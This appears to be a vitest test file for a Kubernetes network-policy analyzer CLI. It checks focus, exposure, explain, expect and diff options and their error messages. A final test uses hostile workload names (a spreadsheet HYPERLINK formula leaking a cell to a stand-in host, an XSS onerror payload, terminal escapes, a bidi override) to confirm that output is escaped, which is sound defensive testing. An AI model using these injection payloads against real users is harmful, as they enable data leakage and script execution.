/**
 * The CLI options of issue 13 (netpol-analyzer parity), run in-process:
 * `diff REF1 REF2`, `connlist --focus-workload/--focus-direction/--focus-conn`,
 * `connlist --exposure/--explain`, `explain --expect`. Exit codes, messages for
 * bad values (one line, exit 2), and what a user reads in the output. Expected
 * texts are written by hand from netpol-analyzer's documented semantics.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cli } from './capture.ts';

const tmp = mkdtempSync(join(tmpdir(), 'netpol-parity-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function writeTmp(rel: string, text: string): string {
  const p = join(tmp, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, text);
  return p;
}

/** A usage error: exit 2, nothing on stdout, one `netpol-studio:` line on stderr, no stack trace. */
function expectUsageError(r: { code: number; stdout: string; stderr: string }, pattern: RegExp): void {
  expect(r.code).toBe(2);
  expect(r.stdout).toBe('');
  expect(r.stderr).toMatch(/^netpol-studio: [^\n]+\n$/);
  expect(r.stderr).toMatch(pattern);
}

const deployment = (name: string, port: string) => `apiVersion: apps/v1
kind: Deployment
metadata: {name: ${name}, namespace: shop}
spec:
  selector: {matchLabels: {app: ${name}}}
  template:
    metadata: {labels: {app: ${name}}}
    spec: {containers: [{name: c, image: x, ports: [${port}]}]}
`;
const WORKLOADS = [
  deployment('frontend', '{containerPort: 8080}'),
  deployment('backend', '{containerPort: 8080, name: http}'),
  deployment('db', '{containerPort: 5432}'),
].join('---\n');
/** backend admits frontend on 8080; db admits backend on 5432 and monitoring pods of ops namespaces on 9090. */
const POLICIES = `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: backend-in, namespace: shop}
spec:
  podSelector: {matchLabels: {app: backend}}
  ingress: [{from: [{podSelector: {matchLabels: {app: frontend}}}], ports: [{port: 8080}]}]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: db-in, namespace: shop}
spec:
  podSelector: {matchLabels: {app: db}}
  ingress:
  - from: [{podSelector: {matchLabels: {app: backend}}}]
    ports: [{port: 5432}]
  - from: [{namespaceSelector: {matchLabels: {team: ops}}, podSelector: {matchLabels: {role: monitoring}}}]
    ports: [{port: 9090}]
`;
const SHOP = writeTmp('shop/all.yaml', `${WORKLOADS}---\n${POLICIES}`);
const EXT = '0.0.0.0-255.255.255.255[External]';
const BE = 'shop/backend[Deployment]';
const DB = 'shop/db[Deployment]';
const FE = 'shop/frontend[Deployment]';

describe('connlist focus options', () => {
  it('--focus-workload keeps the pairs with that workload at either end (NAME or NS/NAME)', async () => {
    const expected = [
      `${BE} => ${EXT} : All Connections`,
      `${BE} => ${DB} : TCP 5432`,
      `${BE} => ${FE} : All Connections`,
      `${FE} => ${BE} : TCP 8080`,
    ].join('\n');
    for (const name of ['backend', 'shop/backend']) {
      const r = await cli('connlist', '--focus-workload', name, SHOP);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toBe(`${expected}\n`);
    }
  });

  it('--focus-direction ingress / egress keeps the pairs into / out of the focus workload', async () => {
    const into = await cli('connlist', '--focus-workload=backend', '--focus-direction=ingress', SHOP);
    expect(into.stdout).toBe(`${FE} => ${BE} : TCP 8080\n`);
    const out = await cli('connlist', '--focus-workload', 'backend', '--focus-direction', 'egress', SHOP);
    expect(out.stdout.split('\n').filter(Boolean)).toHaveLength(3);
    expect(out.stdout).not.toContain(`=> ${BE}`);
  });

  it('several focus workloads, comma-separated', async () => {
    const r = await cli('connlist', '--focus-workload', 'backend,db', '--focus-direction', 'ingress', SHOP);
    expect(r.stdout).toBe(`${BE} => ${DB} : TCP 5432\n${FE} => ${BE} : TCP 8080\n`);
  });

  it('--focus-conn lists the pairs that allow that port, under a header, as upstream does', async () => {
    const r = await cli('connlist', '--focus-workload', 'backend', '--focus-conn', 'tcp-5432', SHOP);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`Permitted connections on TCP 5432:\n${BE} => ${EXT}\n${BE} => ${DB}\n${BE} => ${FE}\n`);
    const csv = await cli('connlist', '--focus-conn', 'TCP-8080', '--focus-workload', 'backend', '-o', 'csv', SHOP);
    expect(csv.stdout).toContain(`${FE},${BE},TCP 8080\n`);
  });

  it('a focus workload that does not exist: a warning and an empty list', async () => {
    const r = await cli('connlist', '--focus-workload', 'nope', SHOP);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/focus workload nope does not exist/);
  });

  it('--focus-direction without --focus-workload is ignored with a warning', async () => {
    const plain = await cli('connlist', SHOP);
    const r = await cli('connlist', '--focus-direction', 'ingress', SHOP);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(plain.stdout);
    expect(r.stderr).toMatch(/applies only with --focus-workload/);
  });

  it.each([
    [['--focus-direction', 'inbound', '--focus-workload', 'db'], /--focus-direction "inbound": use ingress or egress/],
    [['--focus-conn', 'tcp8080'], /use PROTOCOL-PORT/],
    [['--focus-conn', 'icmp-1'], /protocol "icmp" is not TCP, UDP or SCTP/],
    [['--focus-conn', 'udp-0'], /port "0" is not a number between 1 and 65535/],
    [['--focus-conn', 'udp-70000'], /port "70000"/],
    [['--focus-conn', 'tcp-'], /port "" is not a number/],
    [['--focus-workload', ','], /--focus-workload needs a workload name/],
    [['--exposure', '-o', 'json'], /--exposure writes txt only/],
    [['--explain', '--exposure'], /cannot be combined/],
    [['--explain', '--focus-conn', 'tcp-80'], /--explain cannot be combined with --focus-conn/],
    [['--exposure=yes'], /takes no value/],
  ])('bad value %j: exit 2 with a clear message', async (args, message) => {
    expectUsageError(await cli('connlist', ...args, SHOP), message);
  });
});

describe('connlist --exposure and --explain', () => {
  it('--exposure names the peers outside the input and the unprotected workloads', async () => {
    const r = await cli('connlist', '--exposure', SHOP);
    expect(r.code, r.stderr).toBe(0);
    const [list, report] = r.stdout.split('\nExposure Analysis Result:\n');
    expect(list).toContain(`${FE} => ${BE} : TCP 8080\n`);
    // Aligned on the longest exposed name (shop/frontend[Deployment], 25 characters), tabs as upstream.
    expect(report).toContain(
      `Ingress Exposure:\n${DB}       \t<= \t[namespace with {team=ops}]/[pod with {role=monitoring}] : TCP 9090\n`,
    );
    expect(report).toContain(`${FE} \t<= \tentire-cluster : All Connections\n`);
    expect(report).toContain(`${BE}  \t=> \t${EXT} : All Connections\n`);
    // The rule naming app=backend pods of shop is a real workload, not an unknown peer.
    expect(report).not.toContain('app=backend');
    expect(report).toMatch(
      /\nWorkloads not protected by network policies:\nshop\/backend\[Deployment\] is not protected on Egress\n(.+\n){2}shop\/frontend\[Deployment\] is not protected on Ingress\n$/,
    );
  });

  it('--exposure --focus-workload narrows the exposure to that workload', async () => {
    const r = await cli('connlist', '--exposure', '--focus-workload', 'db', '--focus-direction', 'ingress', SHOP);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(
      `${BE} => ${DB} : TCP 5432\n\nExposure Analysis Result:\nIngress Exposure:\n` +
        `${DB} \t<= \t[namespace with {team=ops}]/[pod with {role=monitoring}] : TCP 9090\n`,
    );
  });

  it('--explain gives, per pair, the allowed and denied ports and the rules behind them', async () => {
    const r = await cli('connlist', '--explain', '--focus-workload', 'db', '--focus-direction', 'ingress', SHOP);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(
      `Connections between ${BE} => ${DB}:\n\nAllowed connections:\n\tAllowed TCP:[5432] due to the following policies and rules:\n` +
        `\t\tEgress (Allowed) due to the system default (Allow all)\n\t\tIngress (Allowed)\n` +
        `\t\t\tNetworkPolicy 'shop/db-in' allows connections by Ingress rule #1\n\n` +
        `Denied connections:\n\tDenied TCP:[1-5431,5433-65535], UDP, SCTP due to the following policies and rules:\n` +
        `\t\tEgress (Allowed) due to the system default (Allow all)\n\t\tIngress (Denied)\n` +
        `\t\t\tNetworkPolicy 'shop/db-in' selects ${DB}, and Ingress rule #1 selects ${BE}, but the protocols and ports do not match\n\n`,
    );
    expect(r.stdout).toContain(
      `Connections between ${FE} => ${DB}:\n\nDenied connections:\n\tDenied TCP, UDP, SCTP due to the following policies and rules:\n` +
        `\t\tEgress (Allowed) due to the system default (Allow all)\n\t\tIngress (Denied)\n` +
        `\t\t\tNetworkPolicy 'shop/db-in' selects ${DB}, but ${FE} is not allowed by any Ingress rule\n`,
    );
    expect(r.stdout).not.toContain(`=> ${BE}:`);
  });
});

describe('reports weigh cluster policies', () => {
  // An AdminNetworkPolicy beside the shop: connlist, --exposure and --explain all weigh it, with no warning.
  const ANP = `apiVersion: policy.networking.k8s.io/v1alpha1
kind: AdminNetworkPolicy
metadata:
  name: deny-db # a guardrail
spec:
  priority: 10
  subject:
    namespaces: {}
  ingress:
    - name: no-one
      action: Deny
      from:
        - namespaces: {}
`;
  const withAnp = writeTmp('shop-anp/all.yaml', `${WORKLOADS}---\n${POLICIES}---\n${ANP}`);
  it('--exposure weighs the AdminNetworkPolicy: no warning, its Deny closes every ingress from the cluster', async () => {
    const r = await cli('connlist', '--exposure', withAnp);
    expect(r.code).toBe(0);
    expect(r.stderr).not.toContain('into account yet');
    // The ANP selects every pod on ingress: protected there, and exposed to no in-cluster peer.
    expect(r.stdout).not.toContain(`${FE} is not protected on Ingress`);
    expect(r.stdout).not.toContain(`${FE} \t<= \tentire-cluster`);
    // It has no egress rules: the frontend stays unprotected on egress, exposed to everyone.
    expect(r.stdout).toContain(`${FE} is not protected on Egress`);
    expect(r.stdout).toContain(`${FE} \t=> \tentire-cluster : All Connections`);
  });
  it('--explain weighs the AdminNetworkPolicy: no warning, and its Deny rule decides the ingress', async () => {
    const r = await cli('connlist', '--explain', withAnp);
    expect(r.code).toBe(0);
    expect(r.stderr).not.toContain('into account yet');
    expect(r.stdout).toContain(
      `Connections between ${FE} => ${DB}:\n\nDenied connections:\n\tDenied TCP, UDP, SCTP due to the following policies and rules:\n`,
    );
    expect(r.stdout).toContain(
      `\t\tIngress (Denied)\n\t\t\tAdminNetworkPolicy 'deny-db' denies connections by Ingress rule no-one\n`,
    );
  });
  it('the plain connectivity list gives no such warning', async () => {
    const r = await cli('connlist', withAnp);
    expect(r.stderr).not.toContain('into account yet');
  });
});

describe('explain --expect', () => {
  it('exit 0 when the verdict is the expected one, 1 with a message when not', async () => {
    const base = ['explain', SHOP, '--from', 'shop/frontend', '--to', 'shop/db'];
    expect((await cli(...base, '--expect', 'deny')).code).toBe(0);
    const wrong = await cli(...base, '--expect', 'allow');
    expect(wrong.code).toBe(1);
    expect(wrong.stdout).not.toBe(''); // the report is printed either way
    expect(wrong.stderr).toBe('netpol-studio: expected allow, but the flow is denied.\n');
    const port = ['explain', SHOP, '--from', 'shop/frontend', '--to', 'shop/backend', '--port'];
    expect((await cli(...port, '8080', '--expect', 'allow')).code).toBe(0);
    expect((await cli(...port, '8081', '--expect', 'allow')).code).toBe(1);
    expect((await cli(...port, 'http/TCP', '--expect=allow', '-o', 'json')).code).toBe(0);
  });

  it('a bad --expect value is a usage error', async () => {
    expectUsageError(
      await cli('explain', SHOP, '--from', 'shop/frontend', '--to', 'shop/db', '--expect', 'maybe'),
      /--expect "maybe": use allow or deny/,
    );
  });
});

describe('diff REF1 REF2', () => {
  it.each([[['diff', '--help']], [['help', 'diff']]])('%j prints the usage', async (argv) => {
    const r = await cli(...argv);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^Usage: netpol-studio diff/);
  });

  const CHANGED = writeTmp(
    'changed/all.yaml',
    `${WORKLOADS}---\n${POLICIES.replace('ports: [{port: 8080}]', 'ports: [{port: 9090}]')}`,
  );

  it('txt: changed pairs with both sides, in netpol-analyzer format', async () => {
    const r = await cli('diff', SHOP, CHANGED);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(
      `Connectivity diff:\ndiff-type: changed, source: ${FE}, destination: ${BE}, ref1: TCP 8080, ref2: TCP 9090\n`,
    );
  });

  it('added and removed workloads are named in workloads-diff-info', async () => {
    const fewer = writeTmp(
      'fewer/all.yaml',
      [deployment('frontend', '{containerPort: 8080}'), deployment('backend', '{containerPort: 8080}')].join('---\n'),
    );
    const r = await cli('diff', fewer, SHOP);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(
      `diff-type: added, source: ${DB}, destination: ${FE}, ref1: No Connections, ref2: All Connections, workloads-diff-info: workload ${DB} added\n`,
    );
    expect(r.stdout).toContain(
      `diff-type: changed, source: ${FE}, destination: ${BE}, ref1: All Connections, ref2: TCP 8080\n`,
    );
    const back = await cli('diff', SHOP, fewer);
    expect(back.stdout).toContain(
      `diff-type: removed, source: ${BE}, destination: ${DB}, ref1: TCP 5432, ref2: No Connections, workloads-diff-info: workload ${DB} removed\n`,
    );
  });

  it('csv and md have upstream columns', async () => {
    const csv = await cli('diff', '-o', 'csv', SHOP, CHANGED);
    expect(csv.stdout).toBe(
      `diff-type,source,destination,ref1,ref2,workloads-diff-info\nchanged,${FE},${BE},TCP 8080,TCP 9090,\n`,
    );
    const md = await cli('diff', '--format=md', SHOP, CHANGED);
    expect(md.stdout.split('\n')[0]).toBe('| diff-type | source | destination | ref1 | ref2 | workloads-diff-info |');
    expect(md.stdout).toContain(`| changed | ${FE} | ${BE} | TCP 8080 | TCP 9090 |  |\n`);
  });

  it('identical refs: nothing on stdout, a note on stderr, exit 0', async () => {
    const r = await cli('diff', SHOP, SHOP);
    expect(r).toEqual({
      code: 0,
      stdout: '',
      stderr: 'netpol-studio: no connectivity differences between ref1 and ref2.\n',
    });
  });

  it('an empty directory as a ref is a usage error naming the side; a ref without objects, a warning', async () => {
    mkdirSync(join(tmp, 'empty1'));
    expectUsageError(
      await cli('diff', join(tmp, 'empty1'), SHOP),
      /^netpol-studio: ref1 \(.*empty1\): .*no \.yaml, \.yml or \.json files found/,
    );
    const blank = writeTmp('blank/notes.yaml', '# nothing here\n');
    const r = await cli('diff', blank, SHOP);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/^netpol-studio: ref1 \(.*notes\.yaml\): warning: no Kubernetes objects/);
    expect(r.stdout).toMatch(/^Connectivity diff:\n/);
    expect(r.stdout).toContain(`workloads-diff-info: workload ${DB} added`);
  });

  it.each([
    [['diff', SHOP], /exactly two paths/],
    [['diff', SHOP, SHOP, SHOP], /exactly two paths/],
    [['diff', '-o', 'json', SHOP, SHOP], /unknown format "json" \(use txt, csv, md\)/],
    [
      ['diff', SHOP, '/nonexistent/ref'],
      /^netpol-studio: ref2 \(\/nonexistent\/ref\): \/nonexistent\/ref: no such file or directory/,
    ],
    [['diff', '/nonexistent/ref', SHOP], /ref1 \(\/nonexistent\/ref\)/],
  ])('%j: exit 2 with a clear message', async (argv, message) => {
    expectUsageError(await cli(...argv), message);
  });
});

describe('hostile names in diff and the reports', () => {
  const NAMES = [
    '=HYPERLINK("http://x/?"&A1)',
    '<img src=x onerror=alert(1)>',
    '\x1b]0;PWNED\x07\x1b[2J',
    'a\u202eb',
    'multi\nline',
    '@SUM(1)|cmd',
  ];
  const q = (s: string) => JSON.stringify(s); // JSON strings are YAML double-quoted scalars
  const hostile = NAMES.map(
    (n, i) => `apiVersion: apps/v1
kind: Deployment
metadata: {name: ${q(n)}, namespace: ${q(n)}}
spec:
  selector: {matchLabels: {app: a${i}}}
  template:
    metadata: {labels: {app: a${i}}}
    spec: {containers: [{name: c, image: x}]}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: ${q(n)}, namespace: ${q(n)}}
spec:
  podSelector: {}
  ingress: [{from: [{namespaceSelector: {matchLabels: {team: ${q(n)}}}}]}]
`,
  ).join('---\n');
  const FILE = writeTmp('hostile/all.yaml', hostile);
  const BASE = writeTmp('hostile-base/all.yaml', 'apiVersion: v1\nkind: Namespace\nmetadata: {name: base}\n');
  // eslint-disable-next-line no-control-regex
  const RAW_UNSAFE = /[\0-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;

  it('txt: no raw control or bidi character, one line per pair', async () => {
    for (const argv of [
      ['diff', BASE, FILE],
      ['connlist', '--exposure', FILE],
      ['connlist', '--explain', FILE],
    ]) {
      const r = await cli(...argv);
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(RAW_UNSAFE);
      expect(r.stdout).toContain('\\u001b]0;PWNED');
    }
    const d = await cli('diff', BASE, FILE);
    for (const line of d.stdout.split('\n').slice(1, -1)) expect(line).toMatch(/^diff-type: added, source: /);
  });

  it('csv: no cell a spreadsheet evaluates; md: no raw HTML', async () => {
    const csv = await cli('diff', '-o', 'csv', BASE, FILE);
    expect(csv.stdout).not.toMatch(RAW_UNSAFE);
    for (const line of csv.stdout.split('\n').filter(Boolean))
      for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    const md = await cli('diff', '-o', 'md', BASE, FILE);
    expect(md.stdout).not.toMatch(RAW_UNSAFE);
    expect(md.stdout).not.toContain('<img');
    for (const line of md.stdout.split('\n').filter(Boolean)) expect(line).toMatch(/^\|.*\|$/);
    const txt = await cli('diff', BASE, FILE);
    // One table row per pair: a name with a line break stays in its cell.
    expect(md.stdout.split('\n').filter(Boolean)).toHaveLength(txt.stdout.split('\n').filter(Boolean).length + 1);
  });
});
